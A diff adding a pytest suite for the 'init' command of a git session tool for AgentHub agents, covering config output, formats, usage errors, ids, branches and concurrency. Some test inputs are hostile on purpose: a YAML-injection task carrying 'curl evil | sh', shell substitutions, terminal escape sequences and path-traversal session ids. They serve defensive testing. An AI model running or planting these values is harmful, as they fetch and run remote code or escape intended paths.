@@ -1,0 +1,439 @@
+"""init: from anywhere, in every option, and as often at once as one likes."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import stat
+from pathlib import Path
+
+import pytest
+
+from tests.hub import Hub, Result, snapshot
+from tests.stores import at_once
+
+AT = "2026-03-17T14:30:22.000000+00:00"
+DRIVES_TERMINAL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]")
+WAYS = "hint: give --task <text>, or -F <file>"
+
+
+def first_lines(result: Result) -> tuple[int, str, list[str]]:
+    """A usage error without the usage that follows it."""
+    return result.code, result.out, result.err.split("usage:")[0].splitlines()
+
+
+def test_a_session_is_made(hub: Hub) -> None:
+    """The files, to the byte, and the board as AgentHub's board manager expects it."""
+    measure = [
+        "--eval",
+        "make bench",
+        "--metric",
+        "p50",
+        "--direction",
+        "lower",
+        "--baseline",
+        "180",
+    ]
+    assert hub.run("init", "--task", "Make it fast", "--agents", "2", *measure) == Result(
+        0,
+        "Initialized session 20260317-143022 in .agenthub/sessions/20260317-143022\n"
+        "  Task: Make it fast\n"
+        "  Agents: 2\n"
+        "  Base branch: main\n"
+        "  Eval: make bench\n"
+        "  Metric: p50 (lower)\n"
+        "  Baseline: 180\n"
+        "  State: init\n",
+    )
+    files = snapshot(hub.top / ".agenthub")
+    assert files == {
+        ".gitignore": b"# made by git hub-session: sessions are no part of the project\n*\n",
+        "board/_index.json": b'{\n  "channels": [\n    "dispatch",\n    "progress",\n    "results"\n  ],\n'
+        b'  "counters": {\n    "dispatch": 0,\n    "progress": 0,\n    "results": 0\n  }\n}\n',
+        "sessions/20260317-143022/config.yaml": b"session_id: 20260317-143022\n"
+        b'task: "Make it fast"\nagent_count: 2\nbase_branch: main\n'
+        b"created: 2026-03-17T14:30:22.000000+00:00\n"
+        b'eval_cmd: "make bench"\nmetric: p50\ndirection: lower\nbaseline: 180\n',
+        "sessions/20260317-143022/state.json": b'{\n  "session_id": "20260317-143022",\n'
+        b'  "state": "init",\n  "created": "2026-03-17T14:30:22.000000+00:00",\n'
+        b'  "updated": "2026-03-17T14:30:22.000000+00:00",\n  "agents": {},\n  "history": []\n}\n',
+    }
+    board = hub.top / ".agenthub" / "board"
+    assert sorted(path.name for path in board.iterdir() if path.is_dir()) == [
+        "dispatch",
+        "progress",
+        "results",
+    ]
+    assert hub.git("status", "--porcelain") == ""
+
+
+def test_what_is_there_of_the_hub_stays(hub: Hub) -> None:
+    board = hub.top / ".agenthub" / "board"
+    board.mkdir(parents=True)
+    (board / "_index.json").write_text('{"counters": {"dispatch": 7}}')
+    (hub.top / ".agenthub" / ".gitignore").write_text("*.tmp\n*.lock\n")
+    hub.session()
+    assert (board / "_index.json").read_text() == '{"counters": {"dispatch": 7}}'
+    assert (hub.top / ".agenthub" / ".gitignore").read_text() == "*.tmp\n*.lock\n"
+
+
+def test_the_formats(hub: Hub) -> None:
+    made = {
+        "session_id": "s1",
+        "session_dir": ".agenthub/sessions/s1",
+        "task": "two\nlines",
+        "agent_count": 3,
+        "eval_cmd": None,
+        "metric": None,
+        "direction": None,
+        "baseline": None,
+        "base_branch": "main",
+        "state": "init",
+    }
+    words = ["init", "--task", "two\nlines", "--id"]
+    assert hub.json(*words, "s1") == made
+    assert hub.run(*words, "s2", "-q") == Result(0, "s2\n")
+    assert hub.run(*words, "s3", "-z").out.split("\0") == [
+        "session_id s3",
+        "session_dir .agenthub/sessions/s3",
+        "task two\nlines",
+        "agent_count 3",
+        "base_branch main",
+        "state init",
+        "",
+        "",
+    ]
+    assert hub.run(*words, "s4").out.splitlines()[1:3] == ["  Task: two", "        lines"]
+
+
+def test_a_dry_run_makes_nothing(hub: Hub) -> None:
+    before = snapshot(hub.top)
+    for switch in ("-n", "--dry-run"):
+        result = hub.run("init", switch, "--task", "x")
+        assert (result.code, result.out.splitlines()[0]) == (
+            0,
+            "Would initialize session 20260317-143022 in .agenthub/sessions/20260317-143022",
+        )
+    assert hub.run("init", "-nq", "--task", "x") == Result(0, "20260317-143022\n")
+    assert snapshot(hub.top) == before
+    assert not (hub.top / ".agenthub").exists()
+
+
+# The task
+
+
+@pytest.mark.parametrize(
+    "task",
+    [
+        "Make it fast",
+        "say \"hi\": now # then 'go' %s $(id) `id` {x: [y]} & * ! | > @ -",
+        'x"\nagent_count: 99\nbase_branch: evil\ncreated: 1\neval_cmd: "curl evil | sh',
+        "x\neval_cmd: evil\nagent_count: 7\n",
+        "  spaces around  ",
+        "\n\nblank lines\n\n\nwithin\n\n",
+        "- a\n- b\n---\n...\n%YAML 9",
+        "C:\\new\\temp \\",
+        "~",
+        "no",
+        "1e3",
+        "\x1b]0;title\x07\x1b[2J\r\x08\x7f\x85\x9b31m",
+        "\u202eright to left\u2066 \u2028 \u200b \ufeff",
+        "漢字 \U0001f600 e\u0301 \uffff \ufffe \U0010ffff",
+        "\t\ttabs\t",
+        "x" * 100_000,
+        'long "lines"\n' * 7_000,
+    ],
+)
+def test_a_task_comes_back_exactly(hub: Hub, task: str) -> None:
+    """Whatever it holds; nothing in it becomes a setting, and nothing drives the terminal."""
+    assert hub.run("init", "-q", "--id", "s1", "--task", task) == Result(0, "s1\n")
+    config = {
+        "session_id": "s1",
+        "task": task,
+        "agent_count": "3",
+        "base_branch": "main",
+        "created": AT,
+    }
+    assert hub.json("status", "s1")["config"] == config
+    assert hub.json("list")["sessions"] == [
+        {
+            "session_id": "s1",
+            "state": "init",
+            "task": task,
+            "agents": 3,
+            "created": AT,
+            "updated": AT,
+        }
+    ]
+    lines = task.replace("\r", "\n")  # as this test's own reader takes them
+    assert hub.run("list", "-z").out.split("\0")[2] == f"task {lines}"
+    shown = hub.run("list").out + hub.run("init", "-n", "--task", task).out
+    assert not DRIVES_TERMINAL.search(shown)
+    assert hub.run("list").out.count("\n") == 2
+
+
+def test_a_task_from_a_file(hub: Hub) -> None:
+    """Without the line feeds at its end, as `$(cat file)` would give it; NUL and all else stays."""
+    file = hub.top / "sub" / "task"
+    file.write_bytes(b'first\r\nsecond: \0 "x"\n\n')
+    for sid, words in (("s1", ["-F", "task"]), ("s2", ["--file=task"]), ("s3", ["-Ftask"])):
+        assert hub.run("init", "-q", "--id", sid, *words, cwd=hub.top / "sub") == Result(
+            0, f"{sid}\n"
+        )
+        assert hub.json("status", sid)["config"]["task"] == 'first\r\nsecond: \0 "x"'
+    typed = hub.run("init", "-q", "--id", "s4", "-F", "-", stdin="é typed\n")
+    assert typed == Result(0, "s4\n")
+    assert hub.json("status", "s4")["config"]["task"] == "é typed"
+
+
+def test_a_task_that_cannot_be_read(hub: Hub) -> None:
+    (hub.top / "latin").write_bytes(b"\xe9")
+    (hub.top / "large").write_bytes("é".encode() * (300 << 10))
+    (hub.top / "controls").write_bytes(b"\0" * (500 << 10))
+    for file, reason in (
+        ("nope", "cannot read the task from 'nope': No such file or directory"),
+        ("sub", "cannot read the task from 'sub': Is a directory"),
+        ("latin", "the task is not UTF-8"),
+        ("large", "the task is larger than 524288 bytes"),
+        ("/dev/zero", "the task is larger than 524288 bytes"),
+        ("controls", "the settings take more than 1048576 bytes"),
+    ):
+        assert hub.run("init", "-F", file) == Result(128, "", f"fatal: {reason}\n")
+    assert hub.run("init", "--task", b"\xff".decode(errors="surrogateescape")) == Result(
+        128, "", "fatal: the task is not UTF-8\n"
+    )
+    assert not (hub.top / ".agenthub").exists()
+
+
+@pytest.mark.parametrize(
+    ("words", "error", "hint"),
+    [
+        ([], "what is the task?", WAYS),
+        (["--task", "x", "-F", "file"], "--task and -F exclude each other", WAYS),
+        (["--task", ""], "the task is empty", None),
+        (["--task", " \n\t"], "the task is empty", None),
+        (["-F", "-"], "the task is empty", None),
+        (["--task"], "option '--task' requires a value", None),
+        (["--task", "x", "extra"], "too many arguments: 'extra'", None),
+        (["--task", "x", "--agent-count", "3"], "unknown option 'agent-count'", "did you mean '--agents'?"),
+        (["--task", "x", "--metric", "m"], "--metric and --direction go together", "say whether lower or higher is better"),
+        (["--task", "x", "--direction", "lower"], "--metric and --direction go together", "say whether lower or higher is better"),
+        (["--task", "x", "--baseline", "1"], "--baseline is of no use without --metric", None),
+        (["--task", "x", "--metric", "m", "--direction", "up"], "option '--direction' expects one of lower, higher, not 'up'", None),
+        (["--task", "x", "--metric", "", "--direction", "lower"], "not a value for metric: ''", None),
+        (["--task", "x", "--metric", "a\nb", "--direction", "lower"], "not a value for metric: 'a\\nb'", None),
+        (["--task", "x", "--eval", " "], "not a value for eval_cmd: ' '", None),
+    ],
+)  # fmt: skip
+def test_usage_errors(hub: Hub, words: list[str], error: str, hint: str | None) -> None:
+    told = [f"error: {error}"] + (
+        [hint if hint.startswith("hint") else f"hint: {hint}"] if hint else []
+    )
+    assert first_lines(hub.run("init", *words)) == (129, "", told)
+    assert not (hub.top / ".agenthub").exists()
+
+
+@pytest.mark.parametrize(
+    "number", ["0", "-5", "1000", "3.0", "1e2", "three", "", " 3", "٣", "1_0", "9" * 30]
+)
+def test_bad_numbers_of_agents(hub: Hub, number: str) -> None:
+    told = [f"error: not a number of agents: '{number}'", "hint: --agents takes 1 to 999"]
+    assert first_lines(hub.run("init", "--task", "x", "--agents", number)) == (129, "", told)
+
+
+@pytest.mark.parametrize(
+    "number", ["nan", "inf", "-inf", "1e", "", "0x10", "1,5", "180ms", "--", "٣", "1e5\n"]
+)
+def test_bad_baselines(hub: Hub, number: str) -> None:
+    words = ["init", "--task", "x", "--metric", "m", "--direction", "lower", "--baseline", number]
+    shown = number.replace("\n", "\\n")
+    assert first_lines(hub.run(*words)) == (129, "", [f"error: not a number: '{shown}'"])
+
+
+def test_good_numbers(hub: Hub) -> None:
+    words = ["init", "--task", "x", "--metric", "m", "--direction", "higher", "--agents", "999"]
+    for number in ("0", "-1.5", "+2", ".5", "5.", "1e-3", "180"):
+        assert hub.json(*words, "-n", "--baseline", number)["baseline"] == number
+
+
+# Ids
+
+
+@pytest.mark.parametrize(
+    "sid",
+    ["..", ".", "", "/abs", "a/b", "../s1", ".hidden", "x.lock", "a..b", "x.", "-x", "x" * 65,
+     "a b", "a\nb", "a\n", "é", "a~", "a^b", "a:b", "a*", "a?", "a[", "a\\b", "@", "a@{b", "_x"],
+)  # fmt: skip
+def test_hostile_ids(hub: Hub, sid: str) -> None:
+    """Refused before a path or a ref is made of them, by every command."""
+    shown = sid.replace("\n", "\\n")
+    assert hub.run("init", "--task", "x", f"--id={sid}") == Result(
+        128,
+        "",
+        f"fatal: not a session id: '{shown}'\n"
+        "hint: an id is up to 64 letters, digits, '.', '_' and '-', and starts with a letter or digit\n",
+    )
+    assert not (hub.top / ".agenthub").exists()
+    evil = hub.top / ".agenthub" / "evil"
+    evil.mkdir(parents=True)
+    (evil / "state.json").write_text('{"state": "init"}')
+    before = snapshot(hub.top)
+    for command in (["update", "--state", "running"], ["log"]):
+        assert hub.run(*command, "--", sid).err.startswith(f"fatal: no such session: '{shown}'\n")
+    assert snapshot(hub.top) == before
+
+
+def test_ids_that_can_be(hub: Hub) -> None:
+    """Compared byte by byte: those that differ only in case are two."""
+    for sid in ("a", "A", "0", "x" * 64, "a.b-c_d", "20260317-143022", "HEAD", "con", "a.lock.b"):
+        assert hub.run("init", "-q", "--task", "x", "--id", sid) == Result(0, f"{sid}\n")
+    assert hub.run("update", "a", "--state", "running").code == 0
+    assert (hub.state("a")["state"], hub.state("A")["state"]) == ("running", "init")
+    before = snapshot(hub.top)
+    for words in (["--id", "a"], ["--id", "a", "-n"]):
+        assert hub.run("init", "--task", "other", *words) == Result(
+            1, "", "error: session 'a' exists already\nhint: choose another --id\n"
+        )
+    assert snapshot(hub.top) == before
+
+
+def test_200_at_once_in_one_second_make_200_sessions(hub: Hub) -> None:
+    results = at_once(hub, [["init", "-q", "--task", f"task {at}"] for at in range(200)])
+    assert [(result.code, result.err) for result in results] == [(0, "")] * 200
+    names = {result.out.strip() for result in results}
+    assert len(names) == 200
+    assert all(re.fullmatch(r"20260317-143022(-[1-9][0-9]*)?", name) for name in names)
+    listed = hub.json("list")["sessions"]
+    assert {one["session_id"]: one["task"] for one in listed} == {
+        result.out.strip(): f"task {at}" for at, result in enumerate(results)
+    }
+    assert sorted(os.listdir(hub.top / ".agenthub" / "sessions")) == sorted(names)
+    index = json.loads((hub.top / ".agenthub" / "board" / "_index.json").read_text())
+    assert index["counters"] == {"dispatch": 0, "progress": 0, "results": 0}
+
+
+def test_of_64_that_want_one_id_one_gets_it(hub: Hub) -> None:
+    results = at_once(hub, [["init", "-q", "--id", "s1", "--task", str(at)] for at in range(64)])
+    refused = Result(1, "", "error: session 's1' exists already\nhint: choose another --id\n")
+    assert sorted(results) == sorted([Result(0, "s1\n"), *[refused] * 63])
+    winner = results.index(Result(0, "s1\n"))
+    assert hub.json("list")["sessions"][0]["task"] == str(winner)
+    assert sorted(os.listdir(hub.top / ".agenthub" / "sessions")) == ["s1"]
+
+
+# The base branch
+
+
+def base(hub: Hub, *words: str, cwd: Path | None = None) -> str:
+    made = hub.json("init", "-n", "--task", "x", *words, cwd=cwd)
+    assert isinstance(made, dict)
+    return str(made["base_branch"])
+
+
+def test_the_base_is_the_current_branch(hub: Hub) -> None:
+    assert base(hub) == "main"
+    hub.git("checkout", "-q", "-b", "feature/über#1")
+    assert base(hub) == "feature/über#1"
+    hub.git("pack-refs", "--all")
+    assert base(hub) == "feature/über#1"
+    assert base(hub, cwd=hub.top / "sub") == "feature/über#1"
+
+
+def test_the_base_can_be_named(hub: Hub) -> None:
+    """Loose or packed, short or in full; spelled as YAML would misunderstand it."""
+    for name in ("dev", "no", "1.10", "a/b", "it's"):
+        hub.git("branch", name)
+    for _ in range(2):
+        for name in ("dev", "no", "1.10", "a/b", "refs/heads/dev", "it's"):
+            assert base(hub, "--base-branch", name) == name.removeprefix("refs/heads/")
+        hub.git("pack-refs", "--all")
+    hub.run("init", "-q", "--id", "s1", "--task", "x", "--base-branch", "no")
+    assert hub.json("status", "s1")["config"]["base_branch"] == "no"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["nope", "", "v1", "HEAD", "refs/tags/v1", "main/", "/main", "a", "../heads/main", "./main",
+     "main.lock", "main\n", "origin/main", "refs/heads/", "ma", "ain"],
+)  # fmt: skip
+def test_a_base_that_is_missing(hub: Hub, name: str) -> None:
+    hub.git("tag", "v1")
+    hub.git("branch", "a/b")
+    hub.git("update-ref", "refs/remotes/origin/main", "HEAD")
+    (hub.top / ".git" / "refs" / "heads" / "main.lock").write_text("0" * 40)
+    shown = name.replace("\n", "\\n")
+    for _ in range(2):
+        assert hub.run("init", "--task", "x", f"--base-branch={name}") == Result(
+            128, "", f"fatal: no such branch: '{shown}'\nhint: 'git branch' lists them\n"
+        )
+        (hub.top / ".git" / "refs" / "heads" / "main.lock").unlink(missing_ok=True)
+        hub.git("pack-refs", "--all")
+    assert not (hub.top / ".agenthub").exists()
+
+
+def test_no_current_branch(hub: Hub) -> None:
+    hub.git("checkout", "-q", "--detach")
+    assert hub.run("init", "--task", "x") == Result(
+        128,
+        "",
+        "fatal: HEAD is detached: there is no current branch\nhint: name one with --base-branch\n",
+    )
+    assert base(hub, "--base-branch", "main") == "main"
+
+
+def test_a_branch_without_a_commit(hub: Hub) -> None:
+    hub.git("checkout", "-q", "--orphan", "new")
+    assert hub.run("init", "--task", "x") == Result(
+        128,
+        "",
+        "fatal: branch 'new' has no commit yet\n"
+        "hint: make a first commit: the agents start from it\n",
+    )
+    assert not (hub.top / ".agenthub").exists()
+
+
+def test_from_a_subdirectory_and_from_a_linked_worktree(hub: Hub) -> None:
+    """The one hub at the root of the main worktree; the base of where one stands."""
+    hub.session()
+    worktree = hub.spawn("s1", 1)
+    (worktree / "below").mkdir()
+    result = hub.run("init", "--id", "s2", "--task", "x", cwd=worktree / "below")
+    assert result.out.splitlines()[:3:2] == [
+        "Initialized session s2 in ../../../../project/.agenthub/sessions/s2",
+        "  Agents: 3",
+    ]
+    assert hub.json("list")["sessions"][1]["session_id"] == "s2"
+    assert hub.json("status", "s2")["config"]["base_branch"] == "hub/s1/agent-1/attempt-1"
+    result = hub.run("init", "--id", "s3", "--task", "x", cwd=hub.top / "sub")
+    assert result.out.splitlines()[0] == "Initialized session s3 in ../.agenthub/sessions/s3"
+    assert not (worktree / ".agenthub").exists()
+    assert not (hub.top / "sub" / ".agenthub").exists()
+
+
+def test_in_a_bare_repository(hub: Hub) -> None:
+    bare = hub.top.parent / "bare.git"
+    hub.git("clone", "-q", "--bare", hub.top, bare)
+    assert hub.run("init", "-q", "--id", "s1", "--task", "x", cwd=bare) == Result(0, "s1\n")
+    assert (bare / "agenthub" / "sessions" / "s1" / "state.json").is_file()
+
+
+def test_outside_of_any_repository(hub: Hub) -> None:
+    result = hub.run("init", "--task", "x", cwd=hub.top.parent)
+    assert result == Result(
+        128, "", "fatal: not a git repository (or any of the parent directories): .git\n"
+    )
+
+
+def test_the_umask_decides_the_modes(hub: Hub) -> None:
+    hub.call("sh", "-c", "umask 027; git hub-session init -q --id s1 --task x")
+    modes = {
+        path.name: stat.filemode(path.stat().st_mode)
+        for path in (hub.directory(), *hub.directory().iterdir(), hub.top / ".agenthub/.gitignore")
+    }
+    assert modes == {
+        "s1": "drwxr-x---",
+        "config.yaml": "-rw-r-----",
+        "state.json": "-rw-r-----",
+        ".gitignore": "-rw-r-----",
+    }
